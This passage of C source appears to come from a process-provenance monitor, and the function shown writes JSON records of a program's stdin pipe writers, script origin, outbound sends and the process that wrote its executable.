	       const struct bw_exec_info *info, struct jbuf *jb)
{
	const struct prov_pipe *pp;
	const struct prov_drop *d;
	const char *script;

	if (!tables(pv))
		return;
	program_from(p, &script);
	if (info->stdin_prov & DATA_TAGS) {
		json_sub_open(jb, "stdin");
		tags_json(jb, "provenance", info->stdin_prov);
		if ((pp = stdin_pipe(pv, p))) {
			json_kv_u64(jb, "pipe", pp->id);
			writers_json(jb, t, pp);
		}
		json_obj_close(jb);
	}
	if (info->script_prov)
		tags_json(jb, "script_origin", info->script_prov);
	if (info->sends_prov)
		tags_json(jb, "sends", info->sends_prov);
	if (info->exe_prov && (d = drop_of_program(pv, p, script))) {
		json_sub_open(jb, "exe_written_by");
		tags_json(jb, "provenance", d->tags);
		json_kv_u64(jb, "pid", d->writer.pid);
		json_kv_str(jb, "exe", d->writer_exe);
		json_kv_str(jb, "cmdline", d->writer_cmd);
		json_obj_close(jb);
	}
}
